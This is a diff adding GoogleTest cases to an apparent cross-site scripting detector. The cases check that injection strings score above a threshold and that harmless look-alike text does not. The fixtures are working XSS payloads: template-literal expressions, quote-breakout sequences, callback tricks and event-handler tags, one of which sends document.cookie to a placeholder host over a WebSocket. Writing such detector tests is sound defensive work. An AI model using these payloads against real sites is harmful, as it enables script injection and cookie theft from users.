@@ -130,5 +130,37 @@ TEST(Xss, LinksThatDoNothingAndEmbeddedVideos) {
   EXPECT_GE(points("<iframe width=560 height=315 src=https://x.example onload=go()>"), kThreshold);
 }
 
+TEST(Xss, ExpressionsOfATemplateLiteral) {
+  for (const char* attack : {"a${alert(1)}", "${[1].map(prompt)}", "${({a:alert}).a()}",
+                             "x${new WebSocket('//a.example/'+document.cookie)}"})
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  for (const char* text : {"${alert}", "${user.name} (admin)", "Dear ${name}, print(this)", "${print}, and (so) on"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
+TEST(Xss, AStringIsLeftByALineOrAWord) {
+  for (const char* attack :
+       {"'\nf()//", "x' in f(1)-'", "x'!=f(1)-'", "x' + f (1) + '", "';f/*x*/(1);a='", "x`;f(1);a`", "x'\nf(1)\n-->"})
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  for (const char* text : {"it's\nf() or g()", "the 'in' (word)'", "it's in f(x)", "`a`; `f(x)`; `b`", "x'\nf() -->"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
+TEST(Xss, FunctionsThatAreCalledBack) {
+  for (const char* attack :
+       {"javascript:''+{toString:alert}", "<a onclick=\"~{valueOf:(0,print)}\">", "{[Symbol.toPrimitive]:alert}-1"})
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  for (const char* text : {"a toString: it prints", "{toString: function() { return alert; }}", "valueOf = 7; alert"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
+TEST(Xss, TagsAsBrowsersReadThem) {
+  EXPECT_GE(points("<p oncontentvisibilityautostatechange=f style=content-visibility:auto>"), kThreshold);
+  EXPECT_GE(points("<p x== onclick=f>"), kThreshold);
+  EXPECT_LT(points("if a <p x==onclick"), kThreshold);
+  EXPECT_GE(points("\"><script>a<\\/script>"), kThreshold);
+  EXPECT_LT(points("the \"<script>\" element is old"), kThreshold);
+}
+
 }  // namespace
 }  // namespace onesec::inspect
